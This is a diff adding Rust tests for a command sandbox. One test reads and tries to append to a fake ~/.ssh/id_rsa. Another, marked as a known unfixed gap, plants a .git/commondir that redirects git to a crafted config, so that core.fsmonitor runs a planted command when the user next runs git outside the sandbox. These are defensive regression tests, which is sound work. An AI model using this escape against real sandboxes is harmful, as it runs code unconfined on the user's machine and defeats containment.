+    let key = e.home.join(".ssh/id_rsa");
+    let before = snapshot(&key);
+    let r = e.sh("cat ~/.ssh/id_rsa; echo; echo read=$?; echo x >> ~/.ssh/id_rsa; echo write=$?");
+    r.assert_ok();
+    r.assert_succeeded("read");
+    r.assert_failed("write");
+    assert!(r.stdout.contains("s3cr3t-ssh-key-material"));
+    assert_eq!(snapshot(&key), before);
+}
+
+/// Known gap (G-FS-PROTECT): `.git/config` and `.git/hooks` are read-only, but `.git` itself must
+/// stay writable for ordinary git use, and git reads its config and hooks from the directory
+/// named in `$GIT_DIR/commondir` when that file exists. The sandbox can create it, pointing at a
+/// config it wrote, and the user's next `git status` outside runs that config's `core.fsmonitor`
+/// command unconfined. Protecting a missing *file* needs more than a placeholder directory (git
+/// dies on a `commondir` that is a directory), so the fix belongs in the policy's protected paths
+/// and the mount view together; see the report of the suite that added this test.
+#[test]
+#[ignore = "known G-FS-PROTECT gap: a planted .git/commondir redirects git's config and hooks"]
+fn git_commondir_cannot_redirect_config_and_hooks() {
+    let e = git_repo();
+    git(
+        &e.workspace,
+        &[
+            "-c",
+            "user.name=a",
+            "-c",
+            "user.email=a@e",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "init",
+        ],
+    );
+    let marker = e.outside.join("fsmonitor-ran");
+    let m = path_str(&marker);
+    let r = e.sh(&format!(
+        "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n' > evil/config
+         echo ../evil > .git/commondir; echo commondir=$?"
+    ));
+    r.assert_ok();
+    // Judged from outside: the user's own git, after the run, must not run the planted command.
+    let _ = Command::new("git")
+        .args(["status", "--porcelain"])
+        .current_dir(&e.workspace)
+        .env_clear()
+        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+        .env("HOME", &e.home)
+        .output();
+    assert!(
+        !marker.exists(),
+        "the user's git ran a command planted from inside the sandbox"
+    );
+}
